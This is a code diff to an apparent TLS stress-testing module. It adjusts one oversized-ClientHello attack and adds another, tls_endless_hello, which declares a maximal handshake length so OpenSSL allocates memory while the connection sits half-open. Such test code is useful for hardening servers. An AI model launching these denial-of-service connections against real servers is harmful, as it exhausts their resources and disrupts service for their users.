@@ -104,7 +104,13 @@ def tls_hello_only(address: str, go_on: GoOn) -> Endings:
 
 
 def tls_long_hello(address: str, go_on: GoOn) -> Endings:
-    """Connections that stop in the midst of a ClientHello of 128 KiB, as far in as is borne."""
+    """Connections that stop in the midst of the longest ClientHello that is borne."""
+    start = b"\x01\x00\x40\x00\x03\x03" + bytes(15_000)
+    return half_open(address, go_on, record(HANDSHAKE, start))
+
+
+def tls_endless_hello(address: str, go_on: GoOn) -> Endings:
+    """ClientHellos that say they are as long as OpenSSL bears, which makes room for all of it."""
     start = b"\x01\x01\xff\xff\x03\x03" + bytes(15_000)
     return half_open(address, go_on, record(HANDSHAKE, start) + 3 * record(HANDSHAKE, start[6:]))
 
@@ -218,7 +224,8 @@ def tls_garbage(address: str, go_on: GoOn) -> Endings:
 TLS_ATTACKS: Mapping[str, Attack] = {
     attack.__name__: attack
     for attack in (
-        *(tls_silence, tls_half_hello, tls_hello_only, tls_long_hello, tls_hello_flood),
+        *(tls_silence, tls_half_hello, tls_hello_only, tls_long_hello, tls_endless_hello),
+        tls_hello_flood,
         *(tls_renegotiation, tls_new_keys, tls_garbage),
     )
 }
